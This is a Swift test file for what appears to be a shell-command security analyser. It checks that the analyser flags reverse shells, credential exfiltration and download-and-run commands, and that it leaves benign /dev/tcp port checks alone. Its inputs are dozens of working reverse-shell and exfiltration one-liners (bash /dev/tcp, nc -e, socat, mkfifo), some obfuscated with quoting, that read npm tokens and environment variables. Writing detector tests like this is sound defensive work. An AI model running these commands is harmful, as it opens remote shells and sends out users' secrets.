import SallyportModel
import Testing

@testable import SallyportAnalysis

@Suite("Sockets of a shell")
struct ShellSocketTests {
    @Test(
        "are backdoors when a shell is at their end",
        arguments: [
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -i >& \"/dev/t\"cp/192.0.2.1/4444 0>&1",
            "bash -i >& /dev/t\"\"cp/192.0.2.1/4444 0>&1", "sh </dev/udp/192.0.2.1/53",
            "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/443; sh <&196 >&196 2>&196",
            "exec /bin/sh 0</dev/tcp/192.0.2.1/1 1>&0",
            "{ sh -i; } >& /dev/tcp/192.0.2.1/4444 0>&1",
            "while read l; do eval \"$l\"; done < /dev/tcp/192.0.2.1/4444",
            "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'", "nc -e /bin/sh 192.0.2.1 4444",
            "nc -lvpe /bin/sh 4444", "nc 192.0.2.1 4444 -e/bin/sh", "ncat --exec /bin/sh 192.0.2.1 1",
            "ncat --sh-exec='sh -i' 192.0.2.1 1", "ncat 192.0.2.1 1 -c sh", "socat TCP:192.0.2.1:1 EXEC:'bash -li',pty",
            "socat TCP:192.0.2.1:1 SYSTEM:sh", "socat tcp:192.0.2.1:1 system:sh", "busybox nc 192.0.2.1 1 -e sh",
            "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 4444 > f",
        ]
    )
    func backdoor(text: String) {
        let found = findings(text)
        #expect(found.contains { $0.code == .chainBackdoor }, "\(found.map { "\($0.code) \($0.detail)" })")
        #expect(found.filter { $0.code == .chainBackdoor }.allSatisfy { !$0.steps.isEmpty })
    }

    @Test(
        "are the network where no shell is",
        arguments: [
            "(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1", "exec 3<>/dev/tcp/127.0.0.1/8080",
            "until printf '' 2>/dev/null >/dev/tcp/db.example.invalid/5432; do sleep 1; done",
            "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db.example.invalid/5432'",
            "exec 3<>/dev/tcp/127.0.0.1/80; echo 'GET /' >&3; cat <&3; node server.js",
        ]
    )
    func network(text: String) {
        let found = findings(text)
        #expect(found.contains { $0.code == .capabilityNetwork })
        #expect(!found.contains { $0.code.isChain }, "\(found.map { "\($0.code) \($0.detail)" })")
    }

    @Test(
        "are nothing where they are only named",
        arguments: [
            "# see /dev/tcp/ in the manual\nls", "echo \"/dev/tcp/host/port is a socket\"", "nc -zv host 80", "ls",
        ]
    )
    func named(text: String) {
        #expect(!findings(text).contains { $0.code.isChain })
    }

    @Test(
        "carry away what is sent to them",
        arguments: [
            ("env > /dev/tcp/192.0.2.1/80", FactCode.chainExfiltration),
            ("env | base64 > /dev/tcp/192.0.2.1/80", .chainExfiltration),
            ("cat ~/.npmrc > /dev/tcp/192.0.2.1/80", .chainExfiltration),
            ("echo $NPM_TOKEN > /dev/tcp/192.0.2.1/80", .chainExfiltration),
            ("echo \"$(cat ~/.npmrc)\" > /dev/tcp/192.0.2.1/80", .chainExfiltration),
            ("hostname > /dev/tcp/192.0.2.1/80", .chainSystemInformation),
            ("cat < /dev/tcp/192.0.2.1/80 | sh", .chainDownloadExecute),
        ]
    )
    func sent(text: String, code: FactCode) {
        let found = findings(text)
        #expect(found.contains { $0.code == code }, "\(found.map { "\($0.code) \($0.detail)" })")
    }

    private func findings(_ text: String) -> [Finding] { Evasion.findings(text, .shell).findings }
}
